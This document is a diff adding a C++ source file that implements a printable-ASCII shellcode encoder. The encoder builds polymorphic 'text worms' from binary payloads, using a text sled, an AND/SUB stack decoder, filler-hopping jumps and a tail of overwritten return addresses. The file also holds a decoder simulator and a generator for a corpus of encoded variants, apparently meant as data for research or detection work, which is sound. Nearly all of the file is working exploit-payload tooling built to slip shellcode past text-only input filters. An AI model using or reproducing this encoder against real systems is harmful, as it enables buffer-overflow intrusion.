@@ -1,0 +1,353 @@
+#include "mel/textcode/encoder.hpp"
+
+#include <cassert>
+
+#include "mel/util/bytes.hpp"
+
+namespace mel::textcode {
+
+namespace {
+
+constexpr std::uint8_t kMinImmByte = 0x21;  // '!' — printable, non-space.
+constexpr std::uint8_t kMaxImmByte = 0x7E;  // '~'
+constexpr int kMinTripleSum = 3 * kMinImmByte;  // 0x63
+constexpr int kMaxTripleSum = 3 * kMaxImmByte;  // 0x17A
+
+constexpr std::uint8_t kPushEsp = 0x54;  // 'T'
+constexpr std::uint8_t kPopEcx = 0x59;   // 'Y'
+constexpr std::uint8_t kAndEaxImm = 0x25;  // '%'
+constexpr std::uint8_t kSubEaxImm = 0x2D;  // '-'
+constexpr std::uint8_t kPushEax = 0x50;    // 'P'
+constexpr std::uint8_t kJno = 0x71;        // 'q'
+constexpr std::uint8_t kFiller = 0x20;     // ' ' (and [eax],ah pairs)
+constexpr std::uint8_t kHopDistance = 0x20;  // Smallest text rel8.
+
+constexpr std::uint32_t kZeroMask1 = 0x40404040;  // "@@@@"
+constexpr std::uint32_t kZeroMask2 = 0x3F3F3F3F;  // "????"
+
+/// Splits `total` into three addends drawn from the charset: a few
+/// randomized attempts for polymorphism, then an exhaustive fallback for
+/// sparse sets. Returns false when no decomposition exists.
+bool split_three(int total, const ImmediateCharset& charset,
+                 const std::vector<std::uint8_t>& values,
+                 util::Xoshiro256& rng, std::uint8_t out[3]) {
+  const int lo = charset.min_byte();
+  const int hi = charset.max_byte();
+  if (total < 3 * lo || total > 3 * hi) return false;
+  for (int attempt = 0; attempt < 64; ++attempt) {
+    const std::uint8_t a1 = values[rng.next_below(values.size())];
+    const int rest = total - a1;
+    if (rest < 2 * lo || rest > 2 * hi) continue;
+    const std::uint8_t a2 = values[rng.next_below(values.size())];
+    const int a3 = rest - a2;
+    if (a3 < 0 || a3 > 0xFF ||
+        !charset.contains(static_cast<std::uint8_t>(a3))) {
+      continue;
+    }
+    out[0] = a1;
+    out[1] = a2;
+    out[2] = static_cast<std::uint8_t>(a3);
+    return true;
+  }
+  // Exhaustive fallback (rare; sparse charsets or extreme totals).
+  for (const std::uint8_t a1 : values) {
+    for (const std::uint8_t a2 : values) {
+      const int a3 = total - a1 - a2;
+      if (a3 >= 0 && a3 <= 0xFF &&
+          charset.contains(static_cast<std::uint8_t>(a3))) {
+        out[0] = a1;
+        out[1] = a2;
+        out[2] = static_cast<std::uint8_t>(a3);
+        return true;
+      }
+    }
+  }
+  return false;
+}
+
+void append_imm_instruction(util::ByteBuffer& out, std::uint8_t opcode,
+                            std::uint32_t imm) {
+  out.push_back(opcode);
+  util::append_le32(out, imm);
+}
+
+}  // namespace
+
+ImmediateCharset ImmediateCharset::standard() {
+  ImmediateCharset charset;
+  for (int b = kMinImmByte; b <= kMaxImmByte; ++b) charset.allowed[b] = true;
+  return charset;
+}
+
+ImmediateCharset ImmediateCharset::excluding(std::string_view forbidden) {
+  ImmediateCharset charset = standard();
+  for (char c : forbidden) {
+    charset.allowed[static_cast<std::uint8_t>(c)] = false;
+  }
+  return charset;
+}
+
+std::uint8_t ImmediateCharset::min_byte() const noexcept {
+  for (int b = 0; b < 256; ++b) {
+    if (allowed[b]) return static_cast<std::uint8_t>(b);
+  }
+  return 0;
+}
+
+std::uint8_t ImmediateCharset::max_byte() const noexcept {
+  for (int b = 255; b >= 0; --b) {
+    if (allowed[b]) return static_cast<std::uint8_t>(b);
+  }
+  return 0;
+}
+
+int ImmediateCharset::size() const noexcept {
+  int count = 0;
+  for (bool a : allowed) count += a;
+  return count;
+}
+
+SubTriple solve_sub_triple(std::uint32_t value,
+                           const ImmediateCharset& charset,
+                           util::Xoshiro256& rng) {
+  assert(charset.size() >= 8 && "charset too sparse for the solver");
+  std::vector<std::uint8_t> values;
+  for (int b = 0; b < 256; ++b) {
+    if (charset.contains(static_cast<std::uint8_t>(b))) {
+      values.push_back(static_cast<std::uint8_t>(b));
+    }
+  }
+
+  // Need k1 + k2 + k3 == (0 - value) mod 2^32, all bytes in the charset.
+  const std::uint32_t target_sum = 0u - value;
+  std::uint8_t k[3][4];  // k[j][byte].
+  int carry_in = 0;
+  for (int byte = 0; byte < 4; ++byte) {
+    const int digit = static_cast<int>((target_sum >> (8 * byte)) & 0xFF);
+    // a1+a2+a3 + carry_in = digit + 256*carry_out; pick a feasible carry
+    // (the final carry falls off the 32-bit sum, so both are acceptable
+    // there too).
+    std::uint8_t split[3];
+    int first = rng.next_bernoulli(0.5) ? 1 : 0;
+    bool solved = false;
+    for (int attempt = 0; attempt < 2 && !solved; ++attempt) {
+      const int carry_out = attempt == 0 ? first : 1 - first;
+      const int t = digit + 256 * carry_out - carry_in;
+      if (split_three(t, charset, values, rng, split)) {
+        carry_in = carry_out;
+        solved = true;
+      }
+    }
+    assert(solved && "charset admits no decomposition for this byte");
+    if (!solved) return SubTriple{};  // Release-mode safety net.
+    for (int j = 0; j < 3; ++j) k[j][byte] = split[j];
+  }
+  const auto pack = [](const std::uint8_t bytes[4]) {
+    return static_cast<std::uint32_t>(bytes[0]) |
+           (static_cast<std::uint32_t>(bytes[1]) << 8) |
+           (static_cast<std::uint32_t>(bytes[2]) << 16) |
+           (static_cast<std::uint32_t>(bytes[3]) << 24);
+  };
+  SubTriple triple{pack(k[0]), pack(k[1]), pack(k[2])};
+  assert(triple.k1 + triple.k2 + triple.k3 == target_sum);
+  return triple;
+}
+
+SubTriple solve_sub_triple(std::uint32_t value, util::Xoshiro256& rng) {
+  return solve_sub_triple(value, ImmediateCharset::standard(), rng);
+}
+
+util::ByteBuffer encode_text_worm(util::ByteView binary_payload,
+                                  const TextWormOptions& options,
+                                  util::Xoshiro256& rng) {
+  // Pad to dwords with NOPs so the decoded image stays executable.
+  util::ByteBuffer padded(binary_payload.begin(), binary_payload.end());
+  while (padded.size() % 4 != 0) padded.push_back(0x90);
+
+  const ImmediateCharset charset =
+      ImmediateCharset::excluding(options.forbidden);
+  const auto is_forbidden = [&options](std::uint8_t b) {
+    return options.forbidden.find(static_cast<char>(b)) !=
+           std::string::npos;
+  };
+  // The fixed opcodes of the scheme cannot be substituted; the caller's
+  // forbidden set must leave them alone.
+  for (std::uint8_t fixed : {kPushEsp, kPopEcx, kAndEaxImm, kSubEaxImm,
+                             kPushEax}) {
+    assert(!is_forbidden(fixed) && "forbidden set breaks the encoder");
+    (void)fixed;
+  }
+  for (int shift = 0; shift < 32; shift += 8) {
+    assert(!is_forbidden(
+        static_cast<std::uint8_t>(options.ret_address >> shift)));
+  }
+  // Zero masks: prefer @@@@/????; fall back to any allowed AND-disjoint
+  // text pair (m1 & m2 == 0 keeps EAX-zeroing exact).
+  std::uint32_t mask1 = kZeroMask1;
+  std::uint32_t mask2 = kZeroMask2;
+  if (is_forbidden(0x40) || is_forbidden(0x3F)) {
+    bool found = false;
+    for (int a = 0x21; a <= 0x7E && !found; ++a) {
+      if (is_forbidden(static_cast<std::uint8_t>(a))) continue;
+      for (int b = 0x21; b <= 0x7E && !found; ++b) {
+        if (is_forbidden(static_cast<std::uint8_t>(b))) continue;
+        if ((a & b) != 0) continue;
+        const auto repeat = [](int byte) {
+          return static_cast<std::uint32_t>(byte) * 0x01010101u;
+        };
+        mask1 = repeat(a);
+        mask2 = repeat(b);
+        found = true;
+      }
+    }
+    assert(found && "no AND-disjoint mask pair in the allowed charset");
+  }
+
+  util::ByteBuffer worm;
+  // Printable sled: harmless single-byte text instructions. inc/dec of
+  // non-stack registers and pushes — every suffix of the sled executes
+  // without error into the decrypter.
+  static constexpr std::uint8_t kTextSledBytes[] = {
+      0x40, 0x41, 0x42, 0x43, 0x46, 0x47,  // inc eax..ebx, esi, edi
+      0x48, 0x49, 0x4A, 0x4B, 0x4E, 0x4F,  // dec eax..ebx, esi, edi
+      0x50, 0x51, 0x52, 0x53, 0x56, 0x57,  // push eax..ebx, esi, edi
+  };
+  std::vector<std::uint8_t> sled_bytes;
+  for (std::uint8_t b : kTextSledBytes) {
+    if (!is_forbidden(b)) sled_bytes.push_back(b);
+  }
+  if (!sled_bytes.empty()) {
+    for (std::size_t i = 0; i < options.text_sled_length; ++i) {
+      worm.push_back(sled_bytes[rng.next_below(sled_bytes.size())]);
+    }
+  }
+  worm.push_back(kPushEsp);
+  worm.push_back(kPopEcx);
+
+  // Hop filler must itself decode validly in a linear sweep; spaces
+  // (and [eax],ah pairs) by default, any sled byte otherwise.
+  const bool hops_possible = !is_forbidden(kJno) &&
+                             !is_forbidden(kHopDistance) &&
+                             (!is_forbidden(kFiller) || !sled_bytes.empty());
+  const std::uint8_t filler =
+      is_forbidden(kFiller) && !sled_bytes.empty() ? sled_bytes[0] : kFiller;
+
+  // Push the payload dword by dword, last first (the stack grows down).
+  for (std::size_t block = padded.size() / 4; block-- > 0;) {
+    const std::uint32_t dword = util::load_le32(padded, block * 4);
+    append_imm_instruction(worm, kAndEaxImm, mask1);
+    append_imm_instruction(worm, kAndEaxImm, mask2);
+    if (options.jump_hops && hops_possible &&
+        rng.next_bernoulli(options.hop_probability)) {
+      // AND just cleared OF, so jno always hops the filler island.
+      worm.push_back(kJno);
+      worm.push_back(kHopDistance);
+      worm.insert(worm.end(), kHopDistance, filler);
+    }
+    const SubTriple triple = solve_sub_triple(dword, charset, rng);
+    append_imm_instruction(worm, kSubEaxImm, triple.k1);
+    append_imm_instruction(worm, kSubEaxImm, triple.k2);
+    append_imm_instruction(worm, kSubEaxImm, triple.k3);
+    worm.push_back(kPushEax);
+  }
+
+  // Overwritten return-address tail (text-encodable spring address).
+  for (std::size_t i = 0; i < options.ret_tail_dwords; ++i) {
+    util::append_le32(worm, options.ret_address);
+  }
+  assert(util::is_text_buffer(worm));
+  return worm;
+}
+
+util::ByteBuffer simulate_stack_decoder(util::ByteView text_worm) {
+  // Concrete interpretation of the encoder's instruction subset with real
+  // register/flag semantics.
+  std::uint32_t eax = 0xDEADBEEF;  // Deliberate garbage at entry.
+  bool overflow_flag = true;       // Garbage flags too.
+  std::vector<std::uint32_t> stack;
+  std::size_t pc = 0;
+
+  while (pc < text_worm.size()) {
+    const std::uint8_t opcode = text_worm[pc];
+    if (opcode >= 0x40 && opcode <= 0x4F) {
+      // Sled inc/dec: flags change but the decrypter re-clears EAX anyway.
+      if ((opcode & 7) == 0) eax += (opcode < 0x48) ? 1 : -1;
+      overflow_flag = false;  // Close enough: inc/dec of garbage.
+      ++pc;
+    } else if (opcode >= 0x51 && opcode <= 0x57 && opcode != kPushEsp) {
+      stack.push_back(0xCAFE0000u + opcode);  // Sled push: garbage below
+      ++pc;                                   // the payload (harmless).
+    } else if (opcode == kPushEsp) {
+      stack.push_back(0xBFFF0000);  // Marker; the value is never consumed
+      ++pc;                         // as payload (popped right away).
+    } else if (opcode == kPopEcx) {
+      if (stack.empty()) return {};
+      stack.pop_back();
+      ++pc;
+    } else if (opcode == kAndEaxImm || opcode == kSubEaxImm) {
+      if (pc + 5 > text_worm.size()) break;
+      const std::uint32_t imm = util::load_le32(text_worm, pc + 1);
+      if (opcode == kAndEaxImm) {
+        eax &= imm;
+        overflow_flag = false;  // AND clears OF.
+      } else {
+        const std::uint32_t result = eax - imm;
+        overflow_flag = (((eax ^ imm) & (eax ^ result)) >> 31) != 0;
+        eax = result;
+      }
+      pc += 5;
+    } else if (opcode == kPushEax) {
+      stack.push_back(eax);
+      ++pc;
+    } else if (opcode == kJno) {
+      if (pc + 2 > text_worm.size()) break;
+      const std::uint8_t rel = text_worm[pc + 1];
+      pc += 2;
+      if (!overflow_flag) pc += rel;
+    } else {
+      // Reached the return-address tail (or an unmodeled byte): the
+      // decrypter is done.
+      break;
+    }
+  }
+
+  // The stack top holds the payload's first dword; read downward.
+  util::ByteBuffer payload;
+  for (auto it = stack.rbegin(); it != stack.rend(); ++it) {
+    util::append_le32(payload, *it);
+  }
+  return payload;
+}
+
+std::vector<Shellcode> text_worm_corpus(std::size_t count,
+                                        std::uint64_t seed) {
+  util::Xoshiro256 rng(seed);
+  const std::vector<Shellcode>& binaries = binary_shellcode_corpus();
+  std::vector<Shellcode> worms;
+  worms.reserve(count);
+  std::size_t variant = 0;
+  while (worms.size() < count) {
+    for (const Shellcode& binary : binaries) {
+      if (worms.size() >= count) break;
+      // A worm needs a real payload; the tiny exit(0) snippet stays in the
+      // binary corpus for encoder tests but is not a worm.
+      if (binary.bytes.size() < 16) continue;
+      TextWormOptions options;
+      options.text_sled_length = 48 + 24 * (variant % 5);
+      options.jump_hops = (variant % 3 == 1);
+      options.hop_probability = 0.2 + 0.1 * static_cast<double>(variant % 3);
+      options.ret_tail_dwords = 24 + 8 * (variant % 4);
+      Shellcode worm;
+      worm.name = binary.name + "-text-v" + std::to_string(variant);
+      worm.description = "text encoding of " + binary.name +
+                         (options.jump_hops ? " (with jump hops)" : "");
+      util::Xoshiro256 worm_rng = rng.split();
+      worm.bytes = encode_text_worm(binary.bytes, options, worm_rng);
+      worms.push_back(std::move(worm));
+    }
+    ++variant;
+  }
+  return worms;
+}
+
+}  // namespace mel::textcode
